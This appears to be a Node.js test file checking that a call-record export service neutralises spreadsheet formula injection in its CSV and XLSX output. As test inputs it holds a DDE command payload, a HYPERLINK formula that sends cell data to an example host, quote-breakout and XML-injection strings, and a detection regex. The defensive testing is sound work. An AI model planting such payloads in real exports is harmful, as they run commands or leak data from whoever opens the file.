import assert from 'node:assert/strict'
import { after, before, test } from 'node:test'
import { parse } from 'csv-parse/sync'
import yauzl from 'yauzl'
import { signIn } from '../support/centre.ts'
import { asker, withKey } from '../support/http.ts'
import { startTestServer, type TestServer } from '../support/test-server.ts'

const limit = { timeout: 120_000 }
const formulas = [
  `=cmd|'/C calc'!A0`,
  '=HYPERLINK("http://example.org/?"&A1,"open")',
  '+1+cmd',
  '-2+3',
  '@SUM(1,2)',
  'Pier 4\r\n=1+1,"x',
  '"=1+1"',
  '\u200B=1+1',
  '\uFF1D1+1',
  '</t></is></c><c><f>1+1</f></c>',
]
const begins = /^[\t\r\n]|^[\s\p{C}]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/u

let server: TestServer
let authorization: string

before(async () => {
  server = await startTestServer()
  const write = withKey(server.baseUrl, server.key)
  for (const [at, location] of formulas.entries()) {
    const call = { call_sid: `=F${at}`, caller_number: `+1555010${1_000 + at}`, location, category: location }
    assert.equal((await write('POST', '/api/calls/', call)).status, 201)
  }
  await signIn(server, 'taker', 'supervisor')
  const credentials = { username: 'taker', password: 'password of taker' }
  const { body } = await asker(server.baseUrl, {})('POST', '/api/token/', credentials)
  authorization = `Bearer ${body.access}`
}, limit)
after(() => server.close())

async function take(format: string): Promise<Buffer> {
  const url = `${server.baseUrl}/api/exports/calls/?format=${format}`
  const reply = await fetch(url, { headers: { authorization } })
  assert.equal(reply.status, 200)
  assert.equal(reply.headers.get('x-content-type-options'), 'nosniff')
  assert.match(reply.headers.get('content-disposition') ?? '', /^attachment; filename="[\w-]+\.\w+"$/)
  return Buffer.from(await reply.arrayBuffer())
}

test('no cell of CSV begins as a formula does, and none breaks out of its quotes', limit, async () => {
  const records = parse((await take('csv')).toString(), { columns: true }) as Record<string, string>[]
  assert.equal(records.length, formulas.length)
  const cells = records.flatMap((one) => Object.values(one))
  assert.ok(cells.length > 20 * formulas.length)
  assert.deepEqual(
    cells.filter((one) => begins.test(one)),
    [],
  )
  // They are made harmless, not lost.
  const places = records.map(({ location }) => location ?? '').reverse()
  for (const [at, place] of places.entries()) assert.ok(place.endsWith(formulas[at] ?? '?'), place)
})

/** A part of a workbook as text. */
function partOf(file: Buffer, name: string): Promise<string> {
  return new Promise((done, fail) => {
    yauzl.fromBuffer(file, { lazyEntries: true }, (error, zip) => {
      if (error) return fail(error)
      zip.on('error', fail).on('end', () => fail(new Error(`no ${name}`)))
      zip.on('entry', (entry: yauzl.Entry) => {
        if (entry.fileName !== name) return zip.readEntry()
        zip.openReadStream(entry, (fault, stream) => {
          if (fault) return fail(fault)
          stream.toArray().then((parts) => done(Buffer.concat(parts).toString()), fail)
        })
      })
      zip.readEntry()
    })
  })
}

test('a sheet has no formula in it, whatever the text of a cell', limit, async () => {
  const sheet = await partOf(await take('xlsx'), 'xl/worksheets/sheet1.xml')
  assert.equal(sheet.match(/<row>/g)?.length, formulas.length + 1)
  assert.doesNotMatch(sheet, /<f[ >]/)
  assert.match(sheet, /&lt;f&gt;1\+1&lt;\/f&gt;/)
  const texts = [...sheet.matchAll(/<t xml:space="preserve">([^<]*)<\/t>/g)].map((found) => found[1])
  assert.ok(texts.includes(`=cmd|'/C calc'!A0`))
})
